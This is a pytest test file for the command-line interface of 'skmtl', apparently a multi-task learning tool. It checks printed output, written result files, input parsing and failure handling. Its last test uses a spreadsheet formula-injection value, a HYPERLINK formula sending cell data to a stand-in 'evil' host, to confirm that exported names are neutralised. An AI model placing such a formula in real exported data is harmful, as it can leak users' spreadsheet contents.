"""Runs to the end: what is printed and what is written."""

import json
import os
import subprocess
import sys
from importlib import import_module
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from skmtl.cli.files import FILES
from tests.cli.conftest import COLUMNS, QUICK, make_table

files = import_module("skmtl.cli.files")
strategies = import_module("skmtl.cli.strategies")


@pytest.fixture(autouse=True)
def small_network(monkeypatch):
    for module in (strategies, import_module("skmtl.grouping.grouped")):
        monkeypatch.setattr(
            module,
            "DEFAULT_NETWORK",
            {"hidden_layer_sizes": (8,), "max_iter": 20, "learning_rate_init": 0.02},
        )


def summary(folder):
    return json.loads(
        (folder / "groups.json").read_text(encoding="utf-8"),
        parse_constant=lambda name: pytest.fail(f"{name} is not JSON"),
    )


def test_a_regression_prints_the_table_and_writes_all_files(call, table, tmp_path):
    code, out, err = call("--pairs", "1", "--repeats", "2", frame=table, options=COLUMNS)
    assert (code, err) == (0, "")
    assert sorted(os.listdir(tmp_path / "results")) == sorted(FILES)
    for text in (
        "4 tasks (regression), 160 rows",
        "treated as regression",
        "variance of all training targets",
        "joint",
        "grouped",
        "GROUPS",
        "CHOICE",
        "shop 3",
    ):
        assert text in out
    assert all(name in out for name in FILES)
    found = summary(tmp_path / "results")
    assert list(found["tasks"]) == ["shop 0", "shop 1", "shop 2", "shop 3"]
    assert all(name in found["groups"][group] for name, group in found["tasks"].items())
    assert set(found["losses"]["total"]) == {"single-task", "joint", "grouped"}
    per_task = pd.DataFrame(found["losses"]["per_task"]).T
    np.testing.assert_allclose(
        per_task.sum(), pd.Series(found["losses"]["total"])[per_task.columns]
    )
    assert found["settings"]["repeats"] == 2
    assert found["versions"]["skmtl"]
    gains = pd.read_csv(tmp_path / "results" / "gains.csv")
    assert gains.columns.tolist() == [
        "target",
        "source",
        "gain",
        "gain_se",
        "stl_loss",
        "mtl_loss",
        "n_repeats",
        "predicted",
    ]
    assert len(gains) == 12
    for name in ("affinity.png", "prediction.png"):
        assert (tmp_path / "results" / name).read_bytes().startswith(b"\x89PNG")
    page = (tmp_path / "results" / "report.html").read_text(encoding="utf-8")
    assert "shops.csv" in page
    assert page.count("data:image/png") == 3


def test_piped_output_has_no_control_characters_and_at_most_80_columns(call, rng):
    frame = make_table(rng, sizes=(20,) * 3)
    frame["shop"] = frame["shop"].map(
        {
            "shop 0": "\x1b[31mred\x07",
            "shop 1": "a very long name of a shop that goes on and on for ever",
            "shop 2": "Käse\u202e",
        }
    )
    code, out, _ = call(frame=frame)
    assert code == 0
    assert all(character.isprintable() or character == "\n" for character in out)
    assert max(map(len, out.splitlines())) <= 80


def test_a_strategy_that_was_chosen_has_its_own_losses_to_the_last_digit(call, rng, tmp_path):
    assert call(frame=make_table(rng, sizes=(30, 30)))[0] == 0
    found = summary(tmp_path / "results")
    assert found["winner"] in ("joint", "single-task")
    assert found["losses"]["total"]["grouped"] == found["losses"]["total"][found["winner"]]
    assert all(
        losses["grouped"] == losses[found["winner"]]
        for losses in found["losses"]["per_task"].values()
    )


def test_the_same_seed_gives_the_same_numbers(call, table, tmp_path):
    for out in ("first", "second"):
        assert call(frame=table, out=out)[0] == 0
    assert (tmp_path / "first" / "gains.csv").read_bytes() == (
        tmp_path / "second" / "gains.csv"
    ).read_bytes()
    assert summary(tmp_path / "first")["losses"] == summary(tmp_path / "second")["losses"]


def test_small_tasks_are_kept_and_listed_and_have_no_held_out_loss(call, rng, tmp_path):
    code, out, _ = call(frame=make_table(rng, sizes=(40, 40, 40, 9, 1, 12)))
    assert code == 0
    words = " ".join(out.split())
    assert "shop 3 (9 rows), shop 4 (1 row)" in words
    assert "fewer than 10 rows are left of: shop 5" in words
    found = summary(tmp_path / "results")
    assert set(found["tasks"]) == {f"shop {k}" for k in range(6)}
    assert found["losses"]["per_task"]["shop 3"] == {
        "single-task": None,
        "joint": None,
        "grouped": None,
    }
    assert found["losses"]["per_task"]["shop 5"]["grouped"] is not None


def test_two_tasks_that_can_just_be_used_share_a_network(call, rng, tmp_path):
    code, out, _ = call(frame=make_table(rng, sizes=(12, 12)))
    assert code == 0
    assert "fewer than two tasks have enough training rows" in " ".join(out.split())
    assert summary(tmp_path / "results")["groups"] == [["shop 0", "shop 1"]]
    assert len(pd.read_csv(tmp_path / "results" / "gains.csv")) == 0


@pytest.mark.parametrize("labels", [(0, 1), ("no", "yes"), (False, True), (0.0, 1.0)])
def test_two_values_are_treated_as_classes(call, rng, labels):
    frame = make_table(rng, sizes=(30, 30), kind="classification")
    frame["sales"] = np.array(labels)[frame["sales"]]
    code, out, _ = call(frame=frame)
    assert code == 0
    assert "treated as classification" in out
    assert "Log loss" in out


def test_three_text_classes_are_learned_even_if_a_task_lacks_one(call, rng):
    frame = make_table(rng, sizes=(40, 40, 40))
    frame["sales"] = np.where(
        frame["sales"] > 0.5, "high", np.where(frame["sales"] < -0.5, "low", "middle")
    )
    frame.loc[(frame["shop"] == "shop 1") & (frame["sales"] == "high"), "sales"] = "low"
    assert call(frame=frame)[0] == 0


def test_whole_numbers_can_be_said_to_be_classes(call, rng):
    frame = make_table(rng, sizes=(30, 30))
    frame["sales"] = frame["sales"].clip(-1, 1).round().astype(int)
    code, out, _ = call("--kind", "classification", frame=frame)
    assert code == 0
    assert "treated as" not in out


def test_rows_without_a_target_or_task_are_dropped_and_counted(call, table):
    frame = table.assign(
        sales=table["sales"].mask(table.index < 3), shop=table["shop"].mask(table.index == 7)
    )
    code, out, _ = call(frame=frame)
    assert code == 0
    assert "156 rows" in out
    assert "3 rows without a target (column 'sales') were dropped." in out
    assert "1 row without a task (column 'shop') was dropped." in out


def test_whole_numbered_tasks_lose_their_point_zero(call, table, tmp_path):
    assert call(frame=table.assign(shop=table["shop"].str[-1].astype(float)))[0] == 0
    assert list(summary(tmp_path / "results")["tasks"]) == ["0", "1", "2", "3"]


def test_an_unnamed_first_column_is_not_an_input(call, table, tmp_path):
    table.to_csv(tmp_path / "indexed.csv")
    code, out, _ = call("group", "indexed.csv", *QUICK, "--out", "results")
    assert code == 0
    assert "3 inputs" in out
    assert "The first column has no name" in out


def test_semicolons_packed_files_and_parquet_are_read(call, table, tmp_path):
    table.to_csv(tmp_path / "a.csv", sep=";", index=False)
    table.to_csv(tmp_path / "b.csv.gz", index=False)
    table.to_parquet(tmp_path / "c.parquet")
    for name in ("a.csv", "b.csv.gz", "c.parquet"):
        assert call("group", name, *QUICK, "--out", name + "-out")[0] == 0
    losses = [
        summary(tmp_path / f"{name}-out")["losses"] for name in ("a.csv", "b.csv.gz", "c.parquet")
    ]
    assert losses[0] == losses[1]
    assert losses[0]["total"] == pytest.approx(losses[2]["total"], rel=1e-6)


@pytest.mark.parametrize("method", ["beam", "sdp"])
def test_only_the_given_method_proposes_groupings(call, table, tmp_path, method):
    assert call("--method", method, frame=table)[0] == 0
    names = [row["candidate"] for row in summary(tmp_path / "results")["choice"]][2:]
    assert all(
        name.startswith((method, "best of each")) for name in names
    )  # the second serves tasks from groups that were found


def test_many_tasks_show_only_the_most_changed(call, rng):
    code, out, _ = call("--pairs", "0.05", frame=make_table(rng, sizes=(16,) * 22))
    assert code == 0
    assert "LOSS PER TASK" in out or "separate network" in out
    assert sum(line.startswith("  shop ") for line in out.splitlines()) <= 10


def test_a_constant_target_is_no_traceback(call, table):
    assert call("--kind", "regression", frame=table.assign(sales=3.0))[0] == 0


def test_parquet_with_categories_whole_numbers_and_booleans_is_read(call, table, tmp_path):
    frame = table.assign(
        shop=table["shop"].astype("category"),
        staff=(10 * table["staff"]).astype(int).astype("Int64"),
        age=table["age"] > 0,
    )
    frame.to_parquet(tmp_path / "shops.parquet")
    assert call("group", "shops.parquet", *QUICK, "--out", "results")[0] == 0


# ---------------------------------------------------------------------- files
def test_other_files_in_the_folder_stay(call, table, tmp_path):
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / "mine.txt").write_text("mine")
    assert call(frame=table)[0] == 0
    assert (tmp_path / "results" / "mine.txt").read_text() == "mine"
    assert sorted(os.listdir(tmp_path / "results")) == sorted([*FILES, "mine.txt"])


def test_a_failure_while_writing_leaves_the_earlier_results(call, table, tmp_path, monkeypatch):
    (tmp_path / "results").mkdir()
    for name in FILES:
        (tmp_path / "results" / name).write_text("earlier")
    write_bytes = Path.write_bytes

    def full(path, content):
        if path.name == "gains.csv":
            raise OSError(28, "No space left on device")
        return write_bytes(path, content)

    monkeypatch.setattr(Path, "write_bytes", full)
    code, _, err = call(frame=table)
    assert code == 2
    assert "No space left" in err
    assert sorted(os.listdir(tmp_path / "results")) == sorted(FILES)
    assert {(tmp_path / "results" / name).read_text() for name in FILES} == {"earlier"}


def test_a_failure_while_writing_leaves_no_new_folder(call, table, tmp_path, monkeypatch):
    monkeypatch.setattr(
        Path,
        "write_bytes",
        lambda *arguments: (_ for _ in ()).throw(OSError(28, "No space left on device")),
    )
    assert call(frame=table)[0] == 2
    assert not (tmp_path / "results").exists()


@pytest.mark.parametrize(
    ("absent", "missing"),
    [
        (["matplotlib"], {"affinity.png", "prediction.png"}),
        (["jinja2"], {"report.html"}),
        (["matplotlib", "jinja2", "rich"], {"affinity.png", "prediction.png", "report.html"}),
    ],
)
def test_without_extras_the_rest_is_written_and_one_line_names_the_extra(
    call, table, tmp_path, monkeypatch, absent, missing
):
    (tmp_path / "results").mkdir()
    for name in FILES:
        (tmp_path / "results" / name).write_text("earlier")
    for name in absent:
        monkeypatch.setitem(sys.modules, name, None)
        for loaded in [module for module in sys.modules if module.startswith(name + ".")]:
            monkeypatch.setitem(sys.modules, loaded, None)
    code, out, _ = call(frame=table)
    assert code == 0
    assert out.count('pip install "skmtl[report]"') == 1
    assert set(os.listdir(tmp_path / "results")) == set(FILES) - missing


def test_a_terminal_gets_a_progress_bar_and_a_pipe_none(table, tmp_path, monkeypatch, capsys):
    pytest.importorskip("rich")
    from skmtl.support import Stage, progress_bar

    for terminal in (False, True):
        monkeypatch.setattr(sys.stdout, "isatty", lambda terminal=terminal: terminal)
        monkeypatch.setattr(sys.stderr, "isatty", lambda terminal=terminal: terminal)
        with progress_bar():
            Stage("Pairs", 2).advance(1)
        assert ("Pairs" in capsys.readouterr().err) is terminal


def test_the_module_runs_as_a_command(table, tmp_path):
    table.to_csv(tmp_path / "shops.csv", index=False)
    command = [sys.executable, "-m", "skmtl", "group", "shops.csv", *QUICK, "--out", "results"]
    root = str(Path(__file__).resolve().parents[2])
    environment = {
        **os.environ,
        "OMP_NUM_THREADS": "1",
        "PYTHONIOENCODING": "ascii",
        "PYTHONPATH": root,
    }
    done = subprocess.run(
        command, cwd=tmp_path, capture_output=True, text=True, timeout=120, env=environment
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert "joint" in done.stdout
    assert sorted(os.listdir(tmp_path / "results")) == sorted(FILES)


# ---------------------------------------------------------------------- what a table may hold
def test_task_ids_of_a_csv_file_are_text_as_it_stands(call, table, tmp_path):
    names = ["007", "7", "1e3", "NA", "None", "null", "nan", "1234567890123456789"]
    frame = pd.concat(
        [table.head(12).assign(shop=name) for name in names] + [table.head(1).assign(shop=None)]
    )
    code, out, _ = call(frame=frame)
    assert code == 0
    assert "1 row without a task" in out
    assert list(summary(tmp_path / "results")["tasks"]) == names


def test_whole_numbers_with_decimals_lose_them_in_task_ids(call, table, tmp_path):
    assert call(frame=table.assign(shop=table["shop"].str[-1].astype(float)))[0] == 0
    assert list(summary(tmp_path / "results")["tasks"]) == ["0", "1", "2", "3"]


def test_text_and_missing_inputs_are_taken_as_the_estimators_do(call, table, rng):
    frame = table.assign(
        town=np.array(["Rome", "Oslo", None], dtype=object)[rng.integers(0, 3, len(table))],
        open=rng.random(len(table)) > 0.5,
        age=table["age"].mask(rng.random(len(table)) < 0.2),
    )
    code, out, err = call(frame=frame)
    assert (code, err) == (0, "")
    assert "5 inputs" in out


def test_names_that_a_spreadsheet_would_run_are_written_as_text(call, table, tmp_path):
    evil = {"shop 0": '=HYPERLINK("http://evil/?"&A1)', "shop 1": "@SUM(1)", "shop 2": "-5"}
    assert call(frame=table.replace({"shop": evil}))[0] == 0
    written = pd.read_csv(tmp_path / "results" / "gains.csv", dtype=str)
    assert set(written["target"]) == {f"'{evil['shop 0']}", "'@SUM(1)", "-5", "shop 3"}
    assert evil["shop 0"] in summary(tmp_path / "results")["tasks"]
